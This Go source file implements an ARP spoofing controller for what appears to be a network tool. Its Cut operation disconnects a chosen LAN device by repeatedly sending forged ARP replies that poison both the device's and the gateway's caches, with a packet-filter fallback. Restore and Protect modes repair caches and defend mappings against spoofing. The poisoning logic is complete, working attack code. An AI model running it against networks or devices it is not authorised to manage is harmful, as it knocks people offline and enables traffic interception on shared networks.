package spoof

import (
	"context"
	"errors"
	"fmt"
	"net"
	"sort"
	"sync"
	"time"

	"github.com/projectdiscovery/gologger"
	"github.com/projectdiscovery/netwarden/pkg/arp"
	"github.com/projectdiscovery/netwarden/pkg/platform"
	"github.com/projectdiscovery/netwarden/pkg/registry"
	"github.com/projectdiscovery/netwarden/pkg/types"
	mapsutil "github.com/projectdiscovery/utils/maps"
)

// Frame kinds reported to the Observer
const (
	FramePoison     = "poison"
	FrameCorrective = "corrective"
	FrameDefense    = "defense"
)

// FakePoisonMAC is a locally administered unicast address no host owns
var FakePoisonMAC = net.HardwareAddr{0x02, 0x4e, 0x57, 0x00, 0xde, 0xad}

// Options tunes the controller
type Options struct {
	// Interval between re-assertions of an armed session
	Interval time.Duration
	// Retries per direction inside one assertion
	Retries int
	// Corrective is the number of corrective rounds sent on restore
	Corrective int
	// CorrectiveGap separates corrective rounds
	CorrectiveGap time.Duration
	// Settle bounds the wait for the true mappings to be announced on the
	// wire after the corrective rounds
	Settle time.Duration
	// PoisonMAC is claimed for poisoned mappings, the host MAC when nil
	PoisonMAC net.HardwareAddr
}

// DefaultOptions returns the controller defaults
func DefaultOptions() Options {
	return Options{
		Interval:      2 * time.Second,
		Retries:       3,
		Corrective:    3,
		CorrectiveGap: 100 * time.Millisecond,
		Settle:        300 * time.Millisecond,
	}
}

// GatewaySource resolves the current gateway
type GatewaySource interface {
	Gateway(ctx context.Context) (*types.Gateway, error)
}

// Observer is notified of every frame the controller puts on the wire
type Observer interface {
	FramesSent(kind string, n int)
}

// Filter drops the traffic of a device at the host. It backs a cut when
// frames cannot be injected.
type Filter interface {
	Block(ip net.IP) error
	Unblock(ip net.IP) error
}

// Controller runs the per-device spoof state machine.
//
// Operations on the same IP are serialized, operations on different IPs
// run concurrently. Every armed session owns a goroutine that is cancelled
// and joined before the operation that disarms it returns.
type Controller struct {
	options  Options
	registry *registry.Registry
	link     platform.Link
	gateway  GatewaySource
	observer Observer
	filter   Filter

	locksMu sync.Mutex
	locks   *mapsutil.SyncLockMap[string, *sync.Mutex]

	sessions *mapsutil.SyncLockMap[string, *session]
	wg       sync.WaitGroup
}

// New creates a controller sending frames on link
func New(reg *registry.Registry, link platform.Link, gateway GatewaySource, options Options) *Controller {
	defaults := DefaultOptions()
	if options.Interval <= 0 {
		options.Interval = defaults.Interval
	}
	if options.Retries <= 0 {
		options.Retries = defaults.Retries
	}
	if options.Corrective <= 0 {
		options.Corrective = defaults.Corrective
	}
	if options.CorrectiveGap < 0 {
		options.CorrectiveGap = 0
	}
	if options.Settle < 0 {
		options.Settle = 0
	}
	return &Controller{
		options:  options,
		registry: reg,
		link:     link,
		gateway:  gateway,
		locks:    mapsutil.NewSyncLockMap[string, *sync.Mutex](),
		sessions: mapsutil.NewSyncLockMap[string, *session](),
	}
}

// SetObserver installs the frame observer. Call before arming sessions.
func (c *Controller) SetObserver(observer Observer) {
	c.observer = observer
}

// SetFilter installs the packet filter used when injection fails. Call
// before arming sessions.
func (c *Controller) SetFilter(filter Filter) {
	c.filter = filter
}

func (c *Controller) lock(ip string) func() {
	c.locksMu.Lock()
	mu, ok := c.locks.Get(ip)
	if !ok {
		mu = &sync.Mutex{}
		_ = c.locks.Set(ip, mu)
	}
	c.locksMu.Unlock()

	mu.Lock()
	return mu.Unlock
}

func (c *Controller) poisonMAC() net.HardwareAddr {
	if len(c.options.PoisonMAC) == 6 {
		return c.options.PoisonMAC
	}
	return c.link.HardwareAddr()
}

// Cut disconnects the device at ip by poisoning its view of the gateway
// and the gateway's view of it
func (c *Controller) Cut(ctx context.Context, ip string) error {
	target, err := types.ParseIPv4(ip)
	if err != nil {
		return err
	}
	ip = target.String()
	unlock := c.lock(ip)
	defer unlock()

	device, ok := c.registry.Get(ip)
	if !ok {
		return types.NewError(types.KindDeviceNotFound, "cut", ip, nil)
	}
	if device.IsProtected {
		return types.NewError(types.KindPolicyDenied, "cut", ip, fmt.Errorf("device is protected"))
	}
	if s, ok := c.sessions.Get(ip); ok && s.mode == ModeCut {
		return types.IgnoreAlreadyInState(types.NewError(types.KindAlreadyInState, "cut", ip, nil))
	}

	gw, err := c.resolveGateway(ctx, ip)
	if err != nil {
		return err
	}
	if gw.IP.Equal(target) {
		return types.NewError(types.KindPolicyDenied, "cut", ip, fmt.Errorf("refusing to cut the gateway"))
	}
	mac, err := device.HardwareAddr()
	if err != nil {
		return types.NewError(types.KindInvalidInput, "cut", ip, err)
	}

	c.stopLocked(ip)
	s := newSession(ModeCut, Endpoint{IP: target, MAC: mac}, gw)
	if err := c.arm(s); err != nil {
		return err
	}
	if err := c.registry.Update(ip, func(d *types.Device) {
		d.AttackStatus = types.AttackCutting
	}); err != nil {
		// pruned between the lookup and now, undo what was sent
		if releaseErr := c.release(ctx, s); releaseErr != nil {
			gologger.Warning().Msgf("could not undo cut of %s: %s", ip, releaseErr)
		}
		return err
	}
	c.start(s)
	gologger.Info().Msgf("cutting %s (%s)", ip, device.MAC)
	return nil
}

// Restore disarms a cut on ip and repairs the poisoned caches. Devices
// that are unknown or not cut succeed without sending anything.
//
// The session is disarmed and the device marked idle even when the repair
// fails; the failure is returned as SendFailed so the caller can retry.
func (c *Controller) Restore(ctx context.Context, ip string) error {
	target, err := types.ParseIPv4(ip)
	if err != nil {
		return err
	}
	ip = target.String()
	unlock := c.lock(ip)
	defer unlock()

	return c.restoreLocked(ctx, ip)
}

func (c *Controller) restoreLocked(ctx context.Context, ip string) error {
	var err error
	if s, ok := c.sessions.Get(ip); ok && s.mode == ModeCut {
		var sub *platform.Subscription
		if c.options.Settle > 0 {
			sub = c.link.Subscribe(platform.ARPOnly, 64)
			defer sub.Close()
		}
		c.stopLocked(ip)
		if err = c.release(ctx, s); err == nil {
			if sub != nil && s.asserted() && !c.confirm(ctx, sub, []Endpoint{s.target, s.gateway}) {
				gologger.Verbose().Msgf("true mappings of %s not announced within %s", ip, c.options.Settle)
			}
			gologger.Info().Msgf("restored %s", ip)
		}
	}
	_ = c.registry.Update(ip, func(d *types.Device) {
		d.AttackStatus = types.AttackNone
	})
	return err
}

// Protect restores a cut on ip, marks the device protected and keeps the
// true mappings asserted in both directions
func (c *Controller) Protect(ctx context.Context, ip string) error {
	target, err := types.ParseIPv4(ip)
	if err != nil {
		return err
	}
	ip = target.String()
	unlock := c.lock(ip)
	defer unlock()

	device, ok := c.registry.Get(ip)
	if !ok {
		return types.NewError(types.KindDeviceNotFound, "protect", ip, nil)
	}
	if s, ok := c.sessions.Get(ip); ok && s.mode == ModeProtect {
		return nil
	}
	// the defense frames below carry the same true mappings
	if err := c.restoreLocked(ctx, ip); err != nil {
		gologger.Warning().Msgf("repairing cut of %s before protecting: %s", ip, err)
	}

	gw, err := c.resolveGateway(ctx, ip)
	if err != nil {
		return err
	}
	mac, err := device.HardwareAddr()
	if err != nil {
		return types.NewError(types.KindInvalidInput, "protect", ip, err)
	}

	s := newSession(ModeProtect, Endpoint{IP: target, MAC: mac}, gw)
	if !gw.IP.Equal(target) {
		if err := c.assert(s); err != nil {
			return err
		}
	}
	if err := c.registry.Update(ip, func(d *types.Device) {
		d.IsProtected = true
		d.AttackStatus = types.AttackNone
	}); err != nil {
		return err
	}
	if !gw.IP.Equal(target) {
		c.start(s)
	}
	gologger.Info().Msgf("protecting %s (%s)", ip, device.MAC)
	return nil
}

// Unprotect stops the defense loop of ip and clears its protected flag
func (c *Controller) Unprotect(ctx context.Context, ip string) error {
	target, err := types.ParseIPv4(ip)
	if err != nil {
		return err
	}
	ip = target.String()
	unlock := c.lock(ip)
	defer unlock()

	if s, ok := c.sessions.Get(ip); ok && s.mode == ModeProtect {
		c.stopLocked(ip)
	}
	return c.registry.Update(ip, func(d *types.Device) {
		d.IsProtected = false
	})
}

// Forget disarms any session on ip without touching the registry. A cut is
// repaired before the session is dropped.
func (c *Controller) Forget(ctx context.Context, ip string) {
	unlock := c.lock(ip)
	defer unlock()

	s, ok := c.sessions.Get(ip)
	if !ok {
		return
	}
	c.stopLocked(ip)
	if err := c.release(ctx, s); err != nil {
		gologger.Warning().Msgf("could not repair %s while forgetting it: %s", ip, err)
	}
}

// Relocate moves the session of a device that changed address from one IP
// to another and re-arms it in the same mode
func (c *Controller) Relocate(ctx context.Context, move registry.Move) {
	first, second := move.From, move.To
	if first > second {
		first, second = second, first
	}
	unlockFirst := c.lock(first)
	defer unlockFirst()
	unlockSecond := c.lock(second)
	defer unlockSecond()

	s, ok := c.sessions.Get(move.From)
	if !ok {
		return
	}
	c.stopLocked(move.From)
	if err := c.release(ctx, s); err != nil {
		gologger.Warning().Msgf("could not repair %s after %s moved: %s", move.From, move.MAC, err)
	}

	target, err := types.ParseIPv4(move.To)
	if err != nil {
		return
	}
	c.stopLocked(move.To)
	moved := newSession(s.mode, Endpoint{IP: target, MAC: s.target.MAC}, s.gateway)
	if err := c.arm(moved); err != nil {
		gologger.Warning().Msgf("could not re-arm %s session on %s: %s", s.mode, move.To, err)
		c.disarmed(move.To, s.mode)
		return
	}
	c.start(moved)
	gologger.Info().Msgf("%s session followed %s from %s to %s", s.mode, move.MAC, move.From, move.To)
}

// Retarget re-arms the session on ip after the address was taken over by
// the hardware address mac. A cut of the previous holder is repaired before
// the new holder is targeted in the same mode.
func (c *Controller) Retarget(ctx context.Context, ip, mac string) error {
	target, err := types.ParseIPv4(ip)
	if err != nil {
		return err
	}
	hw, err := net.ParseMAC(mac)
	if err != nil {
		return types.NewError(types.KindInvalidInput, "retarget", mac, err)
	}
	ip = target.String()
	unlock := c.lock(ip)
	defer unlock()

	s, ok := c.sessions.Get(ip)
	if !ok || bytesEqual(s.target.MAC, hw) {
		return nil
	}
	c.stopLocked(ip)

	var errs []error
	if err := c.release(ctx, s); err != nil {
		errs = append(errs, err)
	}
	next := newSession(s.mode, Endpoint{IP: target, MAC: hw}, s.gateway)
	if err := c.arm(next); err != nil {
		c.disarmed(ip, s.mode)
		return errors.Join(append(errs, err)...)
	}
	c.start(next)
	gologger.Info().Msgf("%s session of %s now targets %s (was %s)", s.mode, ip, hw, s.target.MAC)
	return errors.Join(errs...)
}

// disarmed clears the registry state of a session that could not be
// re-armed. A protected device that lost its defense loop is no longer
// reported as protected.
func (c *Controller) disarmed(ip string, mode Mode) {
	if mode == ModeProtect {
		gologger.Warning().Msgf("%s is no longer protected", ip)
	}
	_ = c.registry.Update(ip, func(d *types.Device) {
		d.AttackStatus = types.AttackNone
		if mode == ModeProtect {
			d.IsProtected = false
		}
	})
}

// ReassertDue kicks every session whose interval has elapsed at now
func (c *Controller) ReassertDue(now time.Time) int {
	kicked := 0
	_ = c.sessions.Iterate(func(ip string, s *session) error {
		if now.Sub(s.last()) >= c.options.Interval {
			s.trigger()
			kicked++
		}
		return nil
	})
	return kicked
}

// ActiveSessions returns the number of armed sessions
func (c *Controller) ActiveSessions() int {
	count := 0
	_ = c.sessions.Iterate(func(ip string, s *session) error {
		count++
		return nil
	})
	return count
}

// Sessions returns a snapshot of the armed sessions ordered by IP
func (c *Controller) Sessions() []SessionInfo {
	var infos []SessionInfo
	_ = c.sessions.Iterate(func(ip string, s *session) error {
		infos = append(infos, s.info())
		return nil
	})
	sort.Slice(infos, func(i, j int) bool {
		return infos[i].IP < infos[j].IP
	})
	return infos
}

// Mode returns the mode of the session armed on ip
func (c *Controller) Mode(ip string) (Mode, bool) {
	s, ok := c.sessions.Get(ip)
	if !ok {
		return 0, false
	}
	return s.mode, true
}

// Close disarms every session, repairing all cut devices first
func (c *Controller) Close(ctx context.Context) error {
	var ips []string
	_ = c.sessions.Iterate(func(ip string, s *session) error {
		ips = append(ips, ip)
		return nil
	})
	sort.Strings(ips)

	var sub *platform.Subscription
	if c.options.Settle > 0 && len(ips) > 0 {
		sub = c.link.Subscribe(platform.ARPOnly, 256)
		defer sub.Close()
	}

	var errs []error
	var truths []Endpoint
	for _, ip := range ips {
		unlock := c.lock(ip)
		s, ok := c.sessions.Get(ip)
		if ok {
			c.stopLocked(ip)
			if s.mode == ModeCut {
				if err := c.release(ctx, s); err != nil {
					errs = append(errs, fmt.Errorf("restore %s: %w", ip, err))
				} else if s.asserted() {
					truths = append(truths, s.target)
					if len(truths) == 1 {
						truths = append(truths, s.gateway)
					}
				}
				_ = c.registry.Update(ip, func(d *types.Device) {
					d.AttackStatus = types.AttackNone
				})
			}
		}
		unlock()
	}
	if sub != nil && len(truths) > 0 {
		c.confirm(ctx, sub, truths)
	}
	c.wg.Wait()
	return errors.Join(errs...)
}

func (c *Controller) resolveGateway(ctx context.Context, ip string) (Endpoint, error) {
	gw, err := c.gateway.Gateway(ctx)
	if err != nil {
		if _, ok := types.KindOf(err); ok {
			return Endpoint{}, err
		}
		return Endpoint{}, types.NewError(types.KindGatewayUnresolved, "gateway", ip, err)
	}
	gwIP := net.ParseIP(gw.IP).To4()
	gwMAC, err := gw.HardwareAddr()
	if gwIP == nil || err != nil {
		return Endpoint{}, types.NewError(types.KindGatewayUnresolved, "gateway", ip, fmt.Errorf("incomplete gateway %s/%s", gw.IP, gw.MAC))
	}
	return Endpoint{IP: gwIP, MAC: gwMAC}, nil
}

// start registers s and runs its loop until it is stopped
func (c *Controller) start(s *session) {
	ctx, cancel := context.WithCancel(context.Background())
	s.cancel = cancel
	_ = c.sessions.Set(s.target.IP.String(), s)

	c.wg.Add(1)
	go func() {
		defer c.wg.Done()
		c.run(ctx, s)
	}()
}

// stopLocked cancels and joins the session on ip. Caller holds the ip lock.
func (c *Controller) stopLocked(ip string) {
	s, ok := c.sessions.Get(ip)
	if !ok {
		return
	}
	c.sessions.Delete(ip)
	if s.cancel != nil {
		s.cancel()
		<-s.done
	}
}

func (c *Controller) run(ctx context.Context, s *session) {
	defer close(s.done)

	var attacks <-chan []byte
	if s.mode == ModeProtect {
		sub := c.link.Subscribe(platform.ARPOnly, 64)
		defer sub.Close()
		attacks = c.watch(ctx, sub, s)
	}

	ticker := time.NewTicker(c.options.Interval)
	defer ticker.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
		case <-s.kick:
		case <-attacks:
			gologger.Verbose().Msgf("spoofed mapping for %s seen, re-asserting", s.target.IP)
		}
		if ctx.Err() != nil {
			return
		}
		if err := c.assert(s); err != nil {
			if s.filtered {
				gologger.Debug().Msgf("%s assertion for %s failed, packet filter still applies: %s", s.mode, s.target.IP, err)
				continue
			}
			gologger.Warning().Msgf("%s assertion for %s failed: %s", s.mode, s.target.IP, err)
		}
	}
}

// watch signals when a frame on the wire contradicts a mapping s defends
func (c *Controller) watch(ctx context.Context, sub *platform.Subscription, s *session) <-chan []byte {
	own := c.link.HardwareAddr()
	alerts := make(chan []byte, 1)
	go func() {
		for {
			select {
			case <-ctx.Done():
				return
			case packet, ok := <-sub.Packets():
				if !ok {
					return
				}
				p, err := arp.FromPacket(packet)
				if err != nil || bytesEqual(p.EthSrc, own) {
					continue
				}
				if contradicts(p, s.gateway) || contradicts(p, s.target) {
					select {
					case alerts <- nil:
					default:
					}
				}
			}
		}
	}()
	return alerts
}

func contradicts(p *arp.Packet, truth Endpoint) bool {
	return p.SenderIP.Equal(truth.IP) && !bytesEqual(p.SenderMAC, truth.MAC)
}

// frames returns the two replies asserting the session mapping: the first
// is addressed to the target, the second to the gateway
func (c *Controller) frames(s *session, kind string) ([][]byte, error) {
	gatewayClaim, targetClaim := s.gateway.MAC, s.target.MAC
	if kind == FramePoison {
		gatewayClaim = c.poisonMAC()
		targetClaim = gatewayClaim
	}
	own := c.link.HardwareAddr()

	toTarget, err := arp.Reply(own, s.gateway.IP, gatewayClaim, s.target.IP, s.target.MAC)
	if err != nil {
		return nil, err
	}
	toGateway, err := arp.Reply(own, s.target.IP, targetClaim, s.gateway.IP, s.gateway.MAC)
	if err != nil {
		return nil, err
	}
	return [][]byte{toTarget, toGateway}, nil
}

// arm sends the first assertion of s. A cut falls back to the packet
// filter when frames cannot be injected.
func (c *Controller) arm(s *session) error {
	err := c.assert(s)
	if err == nil || s.mode != ModeCut || c.filter == nil {
		return err
	}
	if filterErr := c.filter.Block(s.target.IP); filterErr != nil {
		gologger.Debug().Msgf("packet filter fallback for %s failed: %s", s.target.IP, filterErr)
		return err
	}
	s.filtered = true
	gologger.Warning().Msgf("could not inject frames for %s, blocking it with the packet filter: %s", s.target.IP, err)
	return nil
}

// release undoes what a cut put in place: the poisoned caches when a
// poison round went out and the filter rule when one was installed
func (c *Controller) release(ctx context.Context, s *session) error {
	if s.mode != ModeCut {
		return nil
	}
	var errs []error
	if s.asserted() {
		if err := c.correct(ctx, s); err != nil {
			errs = append(errs, err)
		}
	}
	if s.filtered && c.filter != nil {
		if err := c.filter.Unblock(s.target.IP); err != nil {
			errs = append(errs, err)
		} else {
			s.filtered = false
		}
	}
	return errors.Join(errs...)
}

// assert sends one round of the session mapping, retrying each direction
func (c *Controller) assert(s *session) error {
	kind := FrameDefense
	if s.mode == ModeCut {
		kind = FramePoison
	}
	if err := c.send(s, kind); err != nil {
		return err
	}
	s.markAsserted(time.Now())
	return nil
}

func (c *Controller) send(s *session, kind string) error {
	frames, err := c.frames(s, kind)
	if err != nil {
		return types.NewError(types.KindInvalidInput, kind, s.target.IP.String(), err)
	}

	var errs []error
	sent := 0
	for _, frame := range frames {
		var lastErr error
		for attempt := 0; attempt < c.options.Retries; attempt++ {
			if lastErr = c.link.WriteFrame(frame); lastErr == nil {
				sent++
				break
			}
		}
		if lastErr != nil {
			errs = append(errs, lastErr)
		}
	}
	if c.observer != nil && sent > 0 {
		c.observer.FramesSent(kind, sent)
	}
	if len(errs) > 0 {
		return types.NewError(types.KindSendFailed, kind, s.target.IP.String(), errors.Join(errs...))
	}
	return nil
}

// correct sends the true mappings a few times. It fails only when no round
// reached the wire in both directions.
func (c *Controller) correct(ctx context.Context, s *session) error {
	var lastErr error
	delivered := false
	for round := 0; round < c.options.Corrective; round++ {
		if round > 0 && c.options.CorrectiveGap > 0 {
			select {
			case <-ctx.Done():
				if delivered {
					return nil
				}
				return types.NewError(types.KindTimeout, FrameCorrective, s.target.IP.String(), ctx.Err())
			case <-time.After(c.options.CorrectiveGap):
			}
		}
		if err := c.send(s, FrameCorrective); err != nil {
			lastErr = err
			gologger.Warning().Msgf("corrective round for %s failed: %s", s.target.IP, err)
			continue
		}
		delivered = true
	}
	if delivered {
		return nil
	}
	return lastErr
}

// confirm waits until every endpoint announced its true mapping on the wire
// or the settle window ended. Frames we sent ourselves do not count.
func (c *Controller) confirm(ctx context.Context, sub *platform.Subscription, truths []Endpoint) bool {
	pending := make(map[string]net.HardwareAddr, len(truths))
	for _, truth := range truths {
		pending[truth.IP.String()] = truth.MAC
	}
	own := c.link.HardwareAddr()
	timer := time.NewTimer(c.options.Settle)
	defer timer.Stop()

	for len(pending) > 0 {
		select {
		case <-ctx.Done():
			return false
		case <-timer.C:
			return false
		case packet, ok := <-sub.Packets():
			if !ok {
				return false
			}
			p, err := arp.FromPacket(packet)
			if err != nil || bytesEqual(p.EthSrc, own) {
				continue
			}
			if mac, ok := pending[p.SenderIP.String()]; ok && bytesEqual(p.SenderMAC, mac) {
				delete(pending, p.SenderIP.String())
			}
		}
	}
	return true
}

func bytesEqual(a, b net.HardwareAddr) bool {
	return len(a) == len(b) && a.String() == b.String()
}
